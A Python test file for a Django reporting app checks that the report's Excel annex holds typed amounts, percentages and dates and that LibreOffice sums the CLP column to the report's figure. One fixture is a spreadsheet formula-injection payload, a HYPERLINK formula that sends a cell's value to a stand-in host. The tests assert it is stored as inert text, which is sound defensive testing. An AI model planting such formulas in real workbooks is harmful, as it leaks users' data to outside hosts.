"""The report's Excel annex opened as a person opens it (LibreOffice): every amount, percentage
and date a typed cell, the sum of the CLP column equal to the figure the report shows."""

import io
from datetime import date, datetime
from zoneinfo import ZoneInfo

import pytest
from openpyxl import load_workbook

from informes import services
from informes.anexo import libro_anexo
from nucleo.hojas import FORMATO_CLP, FORMATO_FECHA, FORMATO_PORCENTAJE
from nucleo.models import Region, Rol
from tests.factories import ConvenioFactory, usuario_con_rol
from tests.libreoffice import con_suma, hojas_como_csv

SANTIAGO = ZoneInfo("America/Santiago")
HIPERVINCULO = '=HYPERLINK("http://ejemplo.invalid/?d="&C4,"ver")'
CIFRAS = {
    "titulo": "Informe mensual",
    "region": {"nombre": "Valparaíso"},
    "periodo": {"nombre": "enero de 2027", "inicio": "2027-01-01", "fin": "2027-01-31"},
    "corte": "2027-01-31",
    "secciones": [
        {
            "titulo": "Mesa Intersectorial Regional",
            "textos": ["Se realizaron 2 de 2 sesiones."],
            "indicadores": [
                {"etiqueta": "Sesiones realizadas / planificadas", "valor": "2 / 2"},
                {"etiqueta": "Asistencia de los servicios", "valor": "78,6 %"},
            ],
            "tablas": [
                {
                    "titulo": "Asistencia por servicio",
                    "columnas": ["Institución", "Convocada", "Asistió", "Asistencia %"],
                    "filas": [["SENDA", 7, 5, 71.4], ["SENADIS", 7, 6, 85.7]],
                }
            ],
        },
        {
            "titulo": "Convenios",
            "indicadores": [{"etiqueta": "Recursos comprometidos", "valor": "$18.750.000"}],
            "tablas": [
                {
                    "titulo": "Convenios vigentes",
                    "columnas": ["Convenio", "Contrapartes", "Término", "Recursos"],
                    "filas": [
                        ["Con SENADIS", "SENADIS", "29-01-2027", "$18.500.000"],
                        [HIPERVINCULO, "SENDA", "Indefinido", "$250.000"],
                    ],
                }
            ],
        },
    ],
}


def test_montos_porcentajes_y_fechas_del_anexo_tienen_tipo():
    generado = datetime(2027, 2, 1, 9, 0, tzinfo=SANTIAGO)
    libro = load_workbook(io.BytesIO(libro_anexo(None, CIFRAS, "abc", generado=generado)))

    portada = libro["Informe"]
    mesa = libro["1 Mesa Intersectorial Regional"]
    convenios = libro["2 Convenios"]
    assert portada["B4"].value.date() == date(2027, 1, 31)
    assert portada["B4"].number_format == FORMATO_FECHA
    assert portada["B5"].value == "abc"
    assert (mesa["B6"].value, mesa["B6"].number_format) == (0.786, FORMATO_PORCENTAJE)
    assert [mesa.cell(f, 4).value for f in (10, 11)] == [0.714, 0.857]
    assert mesa.cell(10, 4).number_format == FORMATO_PORCENTAJE
    assert (convenios["B4"].value, convenios["B4"].number_format) == (18_750_000, FORMATO_CLP)
    assert convenios["C8"].value.date() == date(2027, 1, 29)
    assert convenios["C9"].value == "Indefinido"
    assert [convenios.cell(f, 4).value for f in (8, 9)] == [18_500_000, 250_000]
    assert (convenios["A9"].value, convenios["A9"].data_type) == (HIPERVINCULO, "s")
    assert convenios.freeze_panes == "A4" and convenios.auto_filter.ref == "A3:B4"


def test_suma_en_libreoffice_de_la_columna_clp_es_la_cifra_del_informe(tmp_path):
    contenido = con_suma(libro_anexo(None, CIFRAS, "abc"), "2 Convenios", "D8:D9", "D11")

    hojas = hojas_como_csv(contenido, tmp_path)

    convenios = hojas["2 Convenios"]
    assert convenios[10][3] == "18750000"
    assert convenios[7][2] == "29-01-2027"
    assert convenios[8][0] == HIPERVINCULO


@pytest.mark.django_db
def test_anexo_de_un_informe_generado_suma_lo_que_dice_el_informe(
    tmp_path, django_capture_on_commit_callbacks
):
    ConvenioFactory(nombre="Con SENADIS", recursos_comprometidos=18_500_000)
    ConvenioFactory(nombre=HIPERVINCULO, recursos_comprometidos=250_000)
    # The report reads the convenios as they were at its cut-off: they existed since January.
    from convenios.models import Convenio

    Convenio.history.update(history_date=datetime(2026, 1, 2, tzinfo=SANTIAGO))
    director = usuario_con_rol(Rol.DIRECTOR)
    with django_capture_on_commit_callbacks(execute=True):
        informe, _ = services.informe_solicitar(
            tipo="mensual",
            region=Region.objects.get(codigo="05"),
            periodo="2026-10",
            por=director,
            hoy=date(2026, 11, 25),
        )
    informe.refresh_from_db()
    seccion = next(s for s in informe.datos["secciones"] if s["titulo"] == "Convenios")
    recursos = next(i["valor"] for i in seccion["indicadores"] if "Recursos" in i["etiqueta"])
    contenido = informe.excel.open("rb").read()
    hoja = next(n for n in load_workbook(io.BytesIO(contenido)).sheetnames if "Convenios" in n)
    tabla = load_workbook(io.BytesIO(contenido))[hoja]
    encabezado = next(
        fila for fila in range(1, tabla.max_row + 1) if tabla.cell(fila, 4).value == "Recursos"
    )
    rango = f"D{encabezado + 1}:D{tabla.max_row}"

    filas = hojas_como_csv(con_suma(contenido, hoja, rango, "F1"), tmp_path)[hoja]

    assert recursos == "$18.750.000"
    assert filas[0][5] == "18750000"
